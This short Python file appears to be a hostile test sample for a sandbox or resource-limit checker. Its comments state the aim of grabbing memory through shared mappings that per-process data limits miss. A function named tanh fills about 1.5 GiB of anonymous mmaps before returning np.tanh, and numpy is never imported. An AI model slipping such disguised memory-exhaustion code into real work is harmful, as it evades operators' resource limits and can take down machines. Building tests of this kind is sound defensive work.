# tries: take memory that no limit of a process's data counts: shared mappings
# stock: would harm the machine
# exercise: target.tanh
import mmap
import time


def tanh(x):
    kept = []
    for _ in range(12):
        kept.append(mmap.mmap(-1, 1 << 27))
        kept[-1].write(b"x" * (1 << 27))
    time.sleep(0.5)
    return np.tanh(x)
